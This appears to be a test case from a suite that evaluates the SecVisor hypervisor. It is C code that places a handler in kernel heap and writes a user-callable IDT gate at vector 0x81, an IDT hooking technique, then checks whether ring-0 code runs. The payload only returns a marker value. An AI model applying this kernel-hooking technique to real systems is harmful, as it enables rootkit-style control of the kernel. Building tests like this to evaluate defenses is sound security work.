// Row 8. A gate of the IDT, written in place, leads to kernel heap.
// Source: IDT hooking (kad, Phrack 59-4).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

// A gate of CPL 3 for code at CPL 0, on the stack that the NMI uses.
static void gate(u8 *to, u64 handler)
{
	u64 low = (handler & 0xffff) | 0x10ull << 16 | 2ull << 32 | 0xeeull << 40 | (handler >> 16 & 0xffff) << 48;
	u64 high = handler >> 32;

	memcpy(to, &low, 8);
	memcpy(to + 8, &high, 8);
}

ATTACK("idt-gate-heap")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u8 entry[16];
	long result;
	u64 handler = kernel_page();

	kwrite(handler, "\xb8\x37\x13\0\0\x48\xcf", 7); // mov eax, 0x1337; iretq
	make_executable(handler);
	prepare_entry();
	if (try_operate(&op))
		failed("no tables");
	gate(entry, handler);
	poke_bytes(op.out[0] + 0x81 * 16, entry, sizeof(entry));
	about_to("take an interrupt through a gate of our own");
	unprotect();
	result = interrupt_prepared();
	if (result == MARK)
		succeeded("INT 81h ran our handler at CPL 0");
	failed("INT 81h returned %ld", result);
}
